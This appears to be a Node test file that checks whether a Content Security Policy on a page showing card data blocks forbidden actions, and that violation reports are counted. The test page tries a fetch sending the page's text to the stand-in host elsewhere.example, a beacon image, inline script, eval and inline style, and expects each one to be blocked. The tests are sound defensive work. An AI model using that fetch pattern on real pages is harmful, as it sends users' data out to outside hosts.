// What our pages may not do, whatever runs in them.
import assert from "node:assert/strict";
import { test } from "node:test";
import { comes, inside, metric, partnerPage, show, shown, v1 } from "./harness.mjs";

const directives = ["connect-src", "img-src", "style-src-attr", "require-trusted-types-for"];
const count = (directive) => metric("cardstile_page_violations_total", `directive="${directive}"`);

test("what a page of ours may not do, it cannot", async () => {
  for (const directive of directives) {
    assert.equal(await count(directive), 0);
  }
  const page = await partnerPage({ after: () => undefined }, undefined, { violates: true }); // it stays: with its context, reports that wait would go
  await shown(await show(page, "cardData", await v1()));
  const came = await inside(page).evaluate(async () => {
    const attempt = async (name, what) => {
      try {
        return `${name}: ${await what()}`;
      } catch (error) {
        return `${name}: ${error.name}`;
      }
    };
    const loads = (element, src) =>
      new Promise((resolve) => {
        element.onload = () => resolve("loaded");
        element.onerror = () => resolve("blocked");
        element.src = src;
        document.body.append(element);
      });
    return [
      await attempt("fetch", async () => (await fetch("https://elsewhere.example/?" + document.body.innerText, { mode: "no-cors" })).type),
      await attempt("image", () => loads(new Image(), "https://elsewhere.example/pixel")),
      await attempt("inline script", () => {
        const script = document.createElement("script");
        script.append("window.ran = true"); // text that is no sink
        document.body.append(script);
        return window.ran === true ? "ran" : "blocked";
      }),
      await attempt("markup", () => {
        document.body.innerHTML += "<b>markup</b>";
        return "done";
      }),
      await attempt("eval", () => window["ev" + "al"]("1 + 1")),
      await attempt("style attribute", () => {
        const p = document.createElement("p");
        p.setAttribute("style", "color: rgb(1, 2, 3)");
        document.body.append(p);
        return getComputedStyle(p).color === "rgb(1, 2, 3)" ? "applied" : "blocked";
      }),
    ];
  });
  assert.deepEqual(came, ["fetch: TypeError", "image: blocked", "inline script: blocked", "markup: TypeError", "eval: EvalError", "style attribute: blocked"]);
});

/** counted is for later: a browser sends its first report at once, and others when a minute is over. */
export async function counted() {
  for (const directive of directives) {
    await comes(`a violation of ${directive} is counted`, async () => (await count(directive)) > 0);
  }
}
